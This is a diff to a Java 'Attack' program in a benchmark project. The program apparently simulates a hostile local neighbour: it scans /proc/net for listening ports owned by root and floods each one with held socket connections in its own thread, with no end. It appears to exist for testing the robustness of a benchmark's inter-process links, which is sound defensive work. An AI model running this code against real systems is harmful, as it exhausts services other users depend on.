@@ -2,16 +2,17 @@ package msgq.bench.neighbour;
 
 import java.io.IOException;
 import java.io.ObjectOutputStream;
-import java.io.OutputStream;
 import java.lang.reflect.Method;
 import java.net.InetAddress;
 import java.net.Socket;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.HashSet;
 import java.util.List;
 import java.util.Set;
+import java.util.concurrent.ConcurrentHashMap;
 import java.util.concurrent.TimeUnit;
 import java.util.stream.Stream;
 import org.openjdk.jmh.infra.BenchmarkParams;
@@ -22,11 +23,12 @@ import org.openjdk.jmh.runner.link.BinaryLinkClient;
 import org.openjdk.jmh.util.SampleBuffer;
 
 /**
- * What a neighbour on this machine does to every port of another user, without end; a program of
- * its own, which says {@code ready} first.
+ * What a neighbour on this machine does to every port of root, who runs the test, without end; a
+ * program of its own, which says {@code ready} first.
  */
 public final class Attack {
   private static final String LISTENS = "0A";
+  private static final String ROOT = "0";
 
   private Attack() {}
 
@@ -35,9 +37,9 @@ public final class Attack {
     void on(int port) throws Exception;
   }
 
-  private static final List<Object> HELD = new ArrayList<>();
+  private static final List<Object> HELD = Collections.synchronizedList(new ArrayList<>());
 
-  /** How, whose ports, and perhaps the only port. */
+  /** How. */
   public static void main(String[] args) throws Exception {
     Kind kind =
         switch (args[0]) {
@@ -49,29 +51,36 @@ public final class Attack {
           default -> throw new IllegalArgumentException(args[0]);
         };
     System.out.println("ready");
-    Set<Integer> seen = new HashSet<>();
+    Set<Integer> attacked = ConcurrentHashMap.newKeySet();
     while (true) {
-      List<Integer> ports = args.length > 2 ? List.of(Integer.parseInt(args[2])) : ports(args[1]);
-      for (int port : ports) {
-        if (seen.add(port) || args[0].equals("flood")) {
-          try {
-            kind.on(port);
-          } catch (Exception e) {
-            // refused: try the next
-          }
+      for (int port : ports()) {
+        if (attacked.add(port)) {
+          // a thread of its own: a port whose backlog is full must not spare the others
+          new Thread(
+                  () -> {
+                    try {
+                      kind.on(port);
+                    } catch (Exception e) {
+                      // refused, or the port has been closed
+                    }
+                    if (args[0].equals("flood")) {
+                      attacked.remove(port);
+                    }
+                  })
+              .start();
         }
       }
       TimeUnit.MILLISECONDS.sleep(1);
     }
   }
 
-  private static List<Integer> ports(String uid) throws IOException {
+  private static List<Integer> ports() throws IOException {
     List<Integer> ports = new ArrayList<>();
     for (String table : List.of("tcp", "tcp6")) {
       try (Stream<String> lines = Files.lines(Path.of("/proc/net", table))) {
         lines
             .map(line -> line.strip().split("\\s+"))
-            .filter(fields -> fields[3].equals(LISTENS) && fields[7].equals(uid))
+            .filter(fields -> fields[3].equals(LISTENS) && fields[7].equals(ROOT))
             .forEach(fields -> ports.add(Integer.parseInt(fields[1].split(":")[1], 16)));
       }
     }
@@ -90,14 +99,15 @@ public final class Attack {
 
   private static void flood(int port) throws IOException {
     for (int i = 0; i < 20; i++) {
-      OutputStream out = connect(port).getOutputStream();
-      out.write(new byte[i]);
+      connect(port).getOutputStream().write(new byte[i]);
     }
-    if (HELD.size() > 2_000) {
-      for (Object socket : HELD) {
-        ((Socket) socket).close();
+    synchronized (HELD) {
+      if (HELD.size() > 2_000) {
+        for (Object socket : HELD) {
+          ((Socket) socket).close();
+        }
+        HELD.clear();
       }
-      HELD.clear();
     }
   }
 
